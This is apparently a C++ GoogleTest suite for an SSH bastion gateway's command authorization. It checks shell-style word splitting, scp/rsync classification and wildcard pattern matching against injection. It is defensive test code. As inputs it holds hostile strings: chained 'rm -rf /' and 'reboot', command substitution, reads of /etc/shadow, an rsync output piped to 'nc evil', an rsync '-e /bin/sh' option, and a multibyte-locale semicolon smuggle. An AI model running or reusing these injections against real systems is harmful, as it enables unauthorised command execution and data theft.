// Tests for authz/operation.cc: the word splitter, exec classification (scp, rsync), glob matching
// and catalogue exec patterns — above all, that no shell trick slips past a pattern.
#include "authz/operation.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace bastion::authz {
namespace {

using Words = std::vector<std::string>;

Words split_ok(std::string_view line) {
  auto r = split_command_line(line);
  EXPECT_TRUE(r.ok()) << "'" << line << "': " << (r.ok() ? "" : r.error().message);
  return r.ok() ? *r : Words{};
}

// matches splits the command as the gateway would, then asks the pattern.
bool matches(std::string_view pattern, std::string_view command) {
  auto argv = split_command_line(command);
  return argv.ok() && exec_pattern_matches(pattern, *argv);
}

struct SplitCase {
  std::string line;
  Words words;
};

TEST(SplitCommandLine, SplitsLikeAShellAndIsolatesMetacharacters) {
  const SplitCase cases[] = {
      {"", {}},
      {"   \t ", {}},
      {"ls -l /tmp", {"ls", "-l", "/tmp"}},
      {"  a   b\tc  ", {"a", "b", "c"}},
      {"echo 'a b'", {"echo", "a b"}},
      {"echo \"a b\"", {"echo", "a b"}},
      {"echo a\\ b", {"echo", "a b"}},
      {"echo ''", {"echo", ""}},
      {"echo \"\"", {"echo", ""}},
      {"echo a''b", {"echo", "ab"}},
      {"echo 'it'\\''s'", {"echo", "it's"}},
      {"echo \"a\\\"b\"", {"echo", "a\"b"}},
      {"echo \"a\\nb\"", {"echo", "a\\nb"}},  // only $ ` " \ are escapable inside "…"
      {"echo \"a\\\\b\"", {"echo", "a\\b"}},
      {"echo 'a\\'", {"echo", "a\\"}},
      {"echo '$(x)' '`x`' ';|&'", {"echo", "$(x)", "`x`", ";|&"}},
      {"echo \"\\$x\"", {"echo", "$x"}},
      {"echo a\\;b", {"echo", "a;b"}},
      {"a;b", {"a", ";", "b"}},
      {"a ; b", {"a", ";", "b"}},
      {"a&&b", {"a", "&", "&", "b"}},
      {"a||b", {"a", "|", "|", "b"}},
      {"a>b<c", {"a", ">", "b", "<", "c"}},
      {"(a)", {"(", "a", ")"}},
      {"$(reboot)", {"$", "(", "reboot", ")"}},
      {"`reboot`", {"`", "reboot", "`"}},
      {"\"$(reboot)\"", {"$", "(reboot)"}},
      {"\"`reboot`\"", {"`", "reboot", "`"}},
      {"\"a$b\"", {"a", "$", "b"}},
      {"\"$\"", {"$"}},
      {"x\"$\"y", {"x", "$", "y"}},
      {"x${IFS}y", {"x", "$", "{IFS}y"}},
      {"'a';b", {"a", ";", "b"}},
      {"ls caf\xc3\xa9", {"ls", "caf\xc3\xa9"}},
      {"a\t\tb", {"a", "b"}},
  };
  for (const auto& c : cases) EXPECT_EQ(split_ok(c.line), c.words) << "line: " << c.line;
}

TEST(SplitCommandLine, RefusesUnterminatedQuotesAndEscapes) {
  for (const char* line : {"'abc", "\"abc", "abc\\", "echo 'a\"", "echo \"a'", "echo \"a\\\""}) {
    EXPECT_FALSE(split_command_line(line).ok()) << line;
  }
}

TEST(SplitCommandLine, RefusesControlBytes) {
  const std::string lines[] = {
      "a\nb", "a\rb", std::string("a\0b", 3), "\x1b[31mred", "a\x7f", "'a\nb'", "\"a\x01\"", "a\\\nb",
  };
  for (const auto& line : lines) {
    auto r = split_command_line(line);
    ASSERT_FALSE(r.ok()) << line;
    EXPECT_NE(r.error().message.find("control character"), std::string::npos);
  }
}

TEST(SplitCommandLine, RefusesLinesOver64KiB) {
  const std::string at_limit(64 * 1024, 'a');
  EXPECT_TRUE(split_command_line(at_limit).ok());
  auto r = split_command_line(at_limit + "a");
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.error().message.find("64 KiB"), std::string::npos);
}

struct ClassifyCase {
  std::string line;
  OpType type;
  TransferDirection direction;
};

TEST(ClassifyExec, RecognisesScpAndRsyncServerSides) {
  using D = TransferDirection;
  const ClassifyCase cases[] = {
      {"scp -t /tmp/x", OpType::Scp, D::Upload},
      {"scp -f /etc/hosts", OpType::Scp, D::Download},
      {"scp -v -r -p -d -t -- /tmp", OpType::Scp, D::Upload},
      {"scp -t -- /tmp/x", OpType::Scp, D::Upload},
      {"scp -prt /tmp", OpType::Scp, D::Upload},
      {"scp -r -f /srv/a /srv/b", OpType::Scp, D::Download},
      {"scp -f -- -weird-name", OpType::Scp, D::Download},
      {"scp -t '/tmp/with space'", OpType::Scp, D::Upload},
      {"rsync --server -vlogDtpre.iLsfxC . /tmp/", OpType::Rsync, D::Upload},
      {"rsync --server --sender -vlogDtpre.iLsfxC . /etc/", OpType::Rsync, D::Download},
      {"rsync --server -e.LsfxC --sender . x", OpType::Rsync, D::Download},
      {"rsync --server -logDtprze.iLsfxCIvu --delete --partial --bwlimit=100 . /srv/", OpType::Rsync, D::Upload},
  };
  for (const auto& c : cases) {
    auto op = classify_exec(c.line);
    ASSERT_TRUE(op.ok()) << c.line;
    EXPECT_EQ(op->type, c.type) << c.line;
    EXPECT_EQ(op->direction, c.direction) << c.line;
    EXPECT_EQ(op->command, c.line);
  }
}

TEST(ClassifyExec, AnythingElseIsAPlainExec) {
  const char* const lines[] = {
      "systemctl status nginx",
      "scp",
      "scp -t",                         // no destination
      "scp -t a b",                     // the sink takes exactly one destination
      "scp -tf x",                      // both directions at once
      "scp -x -t /tmp",                 // an option the server side does not take
      "scp -q -t /tmp",
      "scp a b",                        // scp run as a client on the server
      "/usr/bin/scp -t /tmp",           // only the bare name, as OpenSSH sends it
      "scp -t /tmp; reboot",            // a transfer chained with a command
      "scp -t /tmp && reboot",
      "scp -t \"$(reboot)\"",
      "scp -f `reboot`",
      "scp -t /tmp > /dev/null",
      "rsync --server",
      "rsync --server .",
      "rsync --server --sender -r /etc",  // no "." before the paths
      "rsync -av a b",
      "rsync --server --sender . /x | nc evil 1",
      "rsync --server . /x; reboot",
      "sftp-server",
  };
  for (const char* line : lines) {
    auto op = classify_exec(line);
    ASSERT_TRUE(op.ok()) << line;
    EXPECT_EQ(op->type, OpType::Exec) << line;
    EXPECT_EQ(op->direction, TransferDirection::None) << line;
    EXPECT_EQ(op->command, line);
  }
}

TEST(ClassifyExec, KeepsTheRawCommandAndItsWords) {
  auto op = classify_exec("journalctl  -u 'nginx.service'");
  ASSERT_TRUE(op.ok());
  EXPECT_EQ(op->command, "journalctl  -u 'nginx.service'");
  EXPECT_EQ(op->argv, (Words{"journalctl", "-u", "nginx.service"}));
}

// sent: what the gateway sends upstream for an accepted line ("" if classify_exec refused it).
std::string sent(std::string_view line) {
  auto op = classify_exec(line);
  EXPECT_TRUE(op.ok()) << line;
  return op.ok() ? op->upstream_command : "";
}

TEST(ClassifyExec, SendsTheMatchedWordsSingleQuotedUpstream) {
  EXPECT_EQ(sent("find /var/log -name {x,-o,-exec,touch,/tmp/pwned,\\;} -print"),
            "'find' '/var/log' '-name' '{x,-o,-exec,touch,/tmp/pwned,;}' '-print'");
  EXPECT_EQ(sent("echo \"it's\" ~ *.log '#x' $HOME"), "'echo' 'it'\\''s' '~' '*.log' '#x' '$' 'HOME'");
  EXPECT_EQ(sent("scp -t '/tmp/with space'"), "'scp' '-t' '/tmp/with space'");
}

TEST(ClassifyExec, RefusesBytesThatAreNotUtf8) {
  // 0xa5 before "\;" is how a BIG5/GBK/SJIS locale makes the target's shell see a bare ';'.
  for (const char* line : {"find . -name x\xa5\\; -exec id", "ls \xc3", "ls \xe0\x80\x80", "ls \xed\xa0\x80"}) {
    auto op = classify_exec(line);
    ASSERT_FALSE(op.ok()) << line;
    EXPECT_NE(op.error().message.find("UTF-8"), std::string::npos) << op.error().message;
  }
  auto ok = classify_exec("ls /srv/caf\xc3\xa9 /srv/\xe6\x97\xa5\xe6\x9c\xac");
  EXPECT_TRUE(ok.ok());
}

TEST(ClassifyExec, AMalformedTransferIsAnExecThatCarriesTheReason) {
  const struct {
    const char* line;
    const char* says;
  } cases[] = {
      {"rsync --server -r . --sender", "starts with '-'"},
      {"rsync --server --daemon --config=/tmp/evil.conf . x #", "--daemon"},
      {"rsync --server -vlogDtpr -e /bin/sh . /tmp", "-e"},
      {"scp -x -t /tmp", "-x"},
      {"scp -t /tmp; reboot", "metacharacter"},
  };
  for (const auto& c : cases) {
    auto op = classify_exec(c.line);
    ASSERT_TRUE(op.ok()) << c.line;
    EXPECT_EQ(op->type, OpType::Exec) << c.line;
    EXPECT_NE(op->transfer_refusal.find(c.says), std::string::npos) << c.line << ": " << op->transfer_refusal;
  }
  auto plain = classify_exec("rsync --version");
  ASSERT_TRUE(plain.ok());
  EXPECT_EQ(plain->transfer_refusal, "");
}

TEST(ClassifyExec, RefusesEmptyAndMalformedLines) {
  for (const char* line : {"", "   ", "'x", "a\nb"}) {
    auto op = classify_exec(line);
    EXPECT_FALSE(op.ok()) << line;
    if (!op.ok()) {
      EXPECT_FALSE(op.error().message.empty());
    }
  }
}

TEST(GlobMatch, StarAndQuestionMarkOnly) {
  struct G { const char* pattern; const char* text; bool match; };
  const G cases[] = {
      {"", "", true},          {"", "a", false},           {"*", "", true},
      {"?", "", false},        {"?", "a", true},           {"??", "a", false},
      {"a*", "a", true},       {"*a", "ba", true},         {"*a", "ab", false},
      {"a?c", "abc", true},    {"a?c", "ac", false},       {"**", "x", true},
      {"*.log", "app.log", true}, {"*.log", "app.log.1", false},
      {"a*b*c", "aXbYc", true},   {"a*b*c", "aXbY", false}, {"a*b*c", "abcbc", true},
      {"nginx", "NGINX", false},  {"[a]", "a", false},       {"[a]", "[a]", true},
      {"*/*", "a/b/c", true},     {"a\\*", "a\\xyz", true},  {"*ab", "aab", true},
      {"*aab", "aaab", true},     {"a*", "", false},          {"*?*", "", false},
      {"*", "*.txt", true},       {"*.txt", "*.txt", true},   {"a*", "a*b", true},
  };
  for (const auto& c : cases) {
    EXPECT_EQ(glob_match(c.pattern, c.text), c.match) << "'" << c.pattern << "' vs '" << c.text << "'";
  }
}

TEST(GlobMatch, PathologicalInputsStayLinearInPractice) {
  // A backtracking matcher takes exponential time on these; the two-cursor one only revisits the
  // text after the most recent '*', so each finishes in well under a second.
  const std::string text(100000, 'a');
  std::string many_stars;
  for (int i = 0; i < 20; ++i) many_stars += "a*";
  EXPECT_FALSE(glob_match(many_stars + "b", text));
  EXPECT_TRUE(glob_match(many_stars + "a", text));
  EXPECT_FALSE(glob_match(std::string(5000, '*') + "b", text));
  EXPECT_TRUE(glob_match(std::string(5000, '*'), text));
  EXPECT_FALSE(glob_match(std::string(1000, '?'), std::string(999, 'a')));
}

struct PatternCase {
  const char* pattern;
  const char* command;
  bool match;
};

TEST(ExecPatternMatches, FollowsTheDocumentedRules) {
  const PatternCase cases[] = {
      {"systemctl restart nginx", "systemctl restart nginx", true},
      {"systemctl restart nginx", "systemctl  restart\tnginx", true},
      {"systemctl restart nginx", "systemctl restart 'nginx'", true},
      {"systemctl restart nginx", "systemctl restart nginx now", false},
      {"systemctl restart nginx", "systemctl restart", false},
      {"systemctl status *", "systemctl status nginx", true},
      {"systemctl status *", "systemctl status", true},
      {"systemctl status *", "systemctl status nginx sshd", true},
      {"systemctl status *", "systemctl status 'nginx;reboot'", true},  // one quoted, harmless word
      {"systemctl status *", "systemctl restart nginx", false},
      {"journalctl -u *.service", "journalctl -u nginx.service", true},
      {"journalctl -u *.service", "journalctl -u nginx.socket", false},
      {"journalctl -u *.service", "journalctl -u nginx.service -f", false},
      {"echo 'hello world'", "echo \"hello world\"", true},
      {"echo 'hello world'", "echo hello world", false},
      {"cat /var/log/syslog | grep error", "cat /var/log/syslog | grep error", true},
      {"*", "uptime", true},
      {"*", "", true},
      {"ls", "ls", true},
      {"ls", "ls -la", false},
      {"", "ls", false},
      {"'unterminated", "ls", false},
      {"cmd * x", "cmd a x", true},
      {"cmd ? x", "cmd a x", true},
  };
  for (const auto& c : cases) {
    EXPECT_EQ(matches(c.pattern, c.command), c.match) << "pattern '" << c.pattern << "' command '" << c.command << "'";
  }
}

TEST(ExecPatternMatches, NoShellTrickMatchesAWildcardPattern) {
  const char* const patterns[] = {
      "systemctl status *", "systemctl status * *", "systemctl status ? ?", "systemctl status ?",
      "systemctl * *",      "systemctl * ? *",
  };
  const char* const tails[] = {
      ";reboot",    "; reboot",      "&&reboot",     "& reboot",   "|reboot",      "|| reboot",
      "`reboot`",   "$(reboot)",     "\"$(reboot)\"", "\"`reboot`\"", "'x'$(reboot)", ">/etc/passwd",
      "</etc/shadow", "$IFS",        "${IFS}reboot",  "\"${IFS}\"",   "(reboot)",     "x;",
      "x &",        "\"a$(reboot)b\"", "\\\"`reboot`\\\"",
  };
  for (const char* tail : tails) {
    const std::string command = std::string("systemctl status nginx ") + tail;
    const std::string glued = std::string("systemctl status nginx") + tail;
    for (const char* pattern : patterns) {
      EXPECT_FALSE(matches(pattern, command)) << "pattern '" << pattern << "' command '" << command << "'";
      EXPECT_FALSE(matches(pattern, glued)) << "pattern '" << pattern << "' command '" << glued << "'";
    }
  }
}

TEST(ExecPatternMatches, RefusesTheClassicInjections) {
  EXPECT_FALSE(matches("systemctl restart nginx", "systemctl restart nginx; rm -rf /"));
  EXPECT_FALSE(matches("systemctl status *", "systemctl status nginx; reboot"));
  EXPECT_FALSE(matches("systemctl status *", "systemctl status $(reboot)"));
  EXPECT_FALSE(matches("systemctl status *", "systemctl status `reboot`"));
  EXPECT_FALSE(matches("systemctl status *", "systemctl status \"`reboot`\""));
  EXPECT_FALSE(matches("cmd * x", "cmd ; x"));  // a mid-pattern * never stands for a separator
  EXPECT_FALSE(matches("cmd ? x", "cmd ; x"));
  EXPECT_TRUE(matches("cmd ; x", "cmd ; x"));   // unless the officer wrote it literally
}

TEST(ExecPatternMatches, LoneStarIsTheExplicitAnyCommandEntry) {
  // Strict matching could not protect it anyway: `sh -c '…'` is three plain words.
  EXPECT_TRUE(matches("*", "sh -c 'uptime; reboot'"));
  EXPECT_TRUE(matches("*", "systemctl status nginx; reboot"));
  EXPECT_TRUE(matches("*", "cat > /tmp/upload"));
  EXPECT_FALSE(matches("* *", "uptime; reboot"));  // only the lone star means "anything"
  EXPECT_FALSE(matches("uptime *", "uptime; reboot"));
}

TEST(ExecPatternMatches, WorksOnArgvDirectly) {
  EXPECT_TRUE(exec_pattern_matches("systemctl status *", {"systemctl", "status", "nginx"}));
  EXPECT_FALSE(exec_pattern_matches("systemctl status *", {"systemctl", "status", "nginx", ";", "reboot"}));
  EXPECT_FALSE(exec_pattern_matches("systemctl status *", {}));
  EXPECT_TRUE(exec_pattern_matches("*", {}));
}

TEST(PathGlobMatch, StarStaysInItsSegmentAndDotDotNeverMatches) {
  struct G { const char* pattern; const char* path; bool match; };
  const G cases[] = {
      {"/var/log/*.log", "/var/log/dpkg.log", true},
      {"/var/log/*.log", "/var/log/nginx/access.log", false},   // '*' does not cross '/'
      {"/var/log/*.log", "/var/log/../../tmp/secret.log", false},
      {"/var/log/*", "/var/log/..", false},
      {"/var/log/?", "/var/log/a", true},
      {"/var/log/?", "/var/log//", false},
      {"/srv/www/**", "/srv/www", true},                      // "**" takes zero or more segments
      {"/srv/www/**", "/srv/www/a/b/c.html", true},
      {"/srv/www/**", "/srv/www/a/../../../etc/shadow", false},
      {"/srv/www/**", "/srv/wwwx/a", false},
      {"/srv/**/*.conf", "/srv/a/b/x.conf", true},
      {"/srv/**/*.conf", "/srv/x.conf", true},
      {"/srv/**/*.conf", "/srv/a/b/x.confd", false},
      {"/tmp/*", "/tmp/a b", true},
      {"/tmp/*", "tmp/a", false},                              // relative is not absolute
      {"*/x", "../x", false},
      {"/a/./b", "/a/./b", true},                              // matched as written
      {"/a/*/b", "/a/./b", true},
  };
  for (const auto& c : cases) {
    EXPECT_EQ(path_glob_match(c.pattern, c.path), c.match) << "'" << c.pattern << "' vs '" << c.path << "'";
  }
}

TEST(PathGlobMatch, ManyDoubleStarsStayCheap) {
  std::string path;
  for (int i = 0; i < 5000; ++i) path += "/a";
  std::string pattern;
  for (int i = 0; i < 20; ++i) pattern += "/**/a";
  EXPECT_FALSE(path_glob_match(pattern + "/b", path));
  EXPECT_TRUE(path_glob_match(pattern, path));
}

TEST(ExecPatternMatches, PathWordsStayWhereTheOfficerWroteThem) {
  EXPECT_TRUE(matches("tail -n 100 /var/log/*.log", "tail -n 100 /var/log/syslog.log"));
  EXPECT_FALSE(matches("tail -n 100 /var/log/*.log", "tail -n 100 /var/log/../../tmp/secret.log"));
  EXPECT_FALSE(matches("tail -n 100 /var/log/*.log", "tail -n 100 /var/log/x/../../../etc/shadow.log"));
  EXPECT_FALSE(matches("cat /srv/app/*", "cat /srv/app/sub/file"));
  EXPECT_TRUE(matches("cat /srv/app/**", "cat /srv/app/sub/file"));
}

TEST(ExecPatternMatches, AWildcardNeverStandsForAnOption) {
  EXPECT_FALSE(matches("find /var/log -name * -print", "find /var/log -name -exec -print"));
  EXPECT_FALSE(matches("tail -n * /var/log/*.log", "tail -n --follow=name /var/log/x.log"));
  EXPECT_FALSE(matches("systemctl status *", "systemctl status --help"));
  EXPECT_FALSE(matches("systemctl status *", "systemctl status nginx -o verbose"));
  EXPECT_TRUE(matches("systemctl status -* *", "systemctl status --no-pager nginx"));
  EXPECT_TRUE(matches("tail -n * /var/log/*.log", "tail -n 10 /var/log/x.log"));
  EXPECT_TRUE(matches("*", "rm -rf /tmp/x"));  // the explicit "any command" entry
}

TEST(Operation, ForwardCarriesHostAndPort) {
  const Operation op = Operation::forward("db.internal", 5432);
  EXPECT_EQ(op.type, OpType::Forward);
  EXPECT_EQ(op.forward_host, "db.internal");
  EXPECT_EQ(op.forward_port, 5432);
  EXPECT_EQ(Operation::sftp().type, OpType::Sftp);
  EXPECT_EQ(Operation::shell().type, OpType::Shell);
}

}  // namespace
}  // namespace bastion::authz
